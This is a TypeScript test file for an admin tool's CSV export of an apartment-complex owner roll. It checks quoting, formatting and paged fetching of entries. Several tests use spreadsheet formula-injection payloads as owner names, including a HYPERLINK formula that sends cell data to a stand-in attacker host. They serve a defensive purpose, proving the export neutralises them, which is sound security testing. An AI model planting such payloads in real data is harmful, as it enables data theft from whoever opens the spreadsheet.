import { describe, expect, it } from 'vitest'
import type { ListUser } from '#services/list-user/list-users.contract.ts'
import type { DanjiDataProvider } from '../../admin-ui/src/app/data/data-provider.ts'
import { readAllEntries, rollCsv } from '../../admin-ui/src/list-users/roll-export.ts'
import { splitTable } from '../../admin-ui/src/list-users/roll-table-text.ts'

const entry = (over: Partial<ListUser> = {}): ListUser => ({
  id: 'e1',
  listId: 'l1',
  userId: 'u1',
  name: '홍길동',
  phone: '01012345678',
  birthDate: '1960-01-01',
  dong: '101',
  ho: '1502',
  area: 84.9431,
  landShare: null,
  ownershipShare: null,
  kakaoEnabled: true,
  status: 'completed',
  completedAt: '2026-11-21T09:00:00Z',
  ...over,
})

const cellsOf = (over: Partial<ListUser>): readonly string[] => splitTable(rollCsv([entry(over)]))[1]?.cells ?? []
const NAME = 2

describe('the roll as CSV', () => {
  it('has a byte-order mark, headings, and a line an owner', () => {
    const csv = rollCsv([entry(), entry({ name: null, phone: null, birthDate: null, area: null, status: 'pending', completedAt: null })])
    expect(csv.startsWith('\uFEFF"동","호","이름"')).toBe(true)
    const [, first, second] = splitTable(csv).map(({ cells }) => cells)
    expect(first).toEqual(['101', '1502', '홍길동', '010-1234-5678', '1960-01-01', '84.9431', '', '', '완료', '2026. 11. 21. (토) 18:00'])
    expect(second).toEqual(['101', '1502', '', '', '', '', '', '', '미참여', ''])
  })

  it.each(['=HYPERLINK("http://evil.example?"&A1)', '+1+1', '-1+1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'])(
    'runs no name as a formula: %j',
    (name) => {
      expect(rollCsv([entry({ name })])).toContain(`"'${name.replaceAll('"', '""')}"`)
    },
  )

  it.each(['dong', 'ho', 'ownershipShare'] as const)('runs no formula in %s either', (field) => {
    expect(rollCsv([entry({ [field]: '=1+1' })])).toContain(`"'=1+1"`)
  })

  it('leaves no quote open: a name cannot begin a cell or a line of its own', () => {
    expect(cellsOf({ name: '홍","=1+1' })).toHaveLength(10)
    expect(cellsOf({ name: '홍","=1+1' })[NAME]).toBe('홍","=1+1')
    expect(splitTable(rollCsv([entry({ name: '홍\r\n=1+1' })]))).toHaveLength(2)
  })

  it('leaves ordinary names as they are', () => {
    expect(['홍길동', "O'Neil", '김-이', '(주)한빛', '남궁 선'].map((name) => cellsOf({ name })[NAME])).toEqual(['홍길동', "O'Neil", '김-이', '(주)한빛', '남궁 선'])
  })
})

describe('the entries to export', () => {
  type Asked = Parameters<DanjiDataProvider['getList']>[1]

  const listOf = (total: number) => {
    const asked: Asked[] = []
    const getList = async (_resource: string, params: Asked) => {
      asked.push(params)
      const { page, perPage } = params.pagination ?? { page: 1, perPage: 0 }
      const size = Math.max(0, Math.min(perPage, total - (page - 1) * perPage))
      return { data: Array.from({ length: size }, (_, index) => entry({ id: String((page - 1) * perPage + index) })), total }
    }
    // The export asks nothing else of the data provider.
    return { asked, provider: { getList } as unknown as DanjiDataProvider }
  }

  const sort = { field: 'dong', order: 'ASC' } as const

  it.each([
    [0, 1],
    [1, 1],
    [500, 1],
    [501, 2],
    [1_250, 3],
  ])('%i of them take %i calls', async (total, calls) => {
    const { asked, provider } = listOf(total)
    const entries = await readAllEntries(provider, { listId: 'l1', sort, filter: {} })
    expect(entries.map(({ id }) => id)).toEqual(Array.from({ length: total }, (_, index) => String(index)))
    expect(asked).toHaveLength(calls)
  })

  it('are those under the filters on screen, of this list only', async () => {
    const { asked, provider } = listOf(501)
    await readAllEntries(provider, { listId: 'l1', sort, filter: { dong: '101', listId: 'other' } })
    expect(asked.map(({ filter, sort: sorted }) => [filter, sorted])).toEqual([
      [{ dong: '101', listId: 'l1' }, sort],
      [{ dong: '101', listId: 'l1' }, sort],
    ])
  })
})
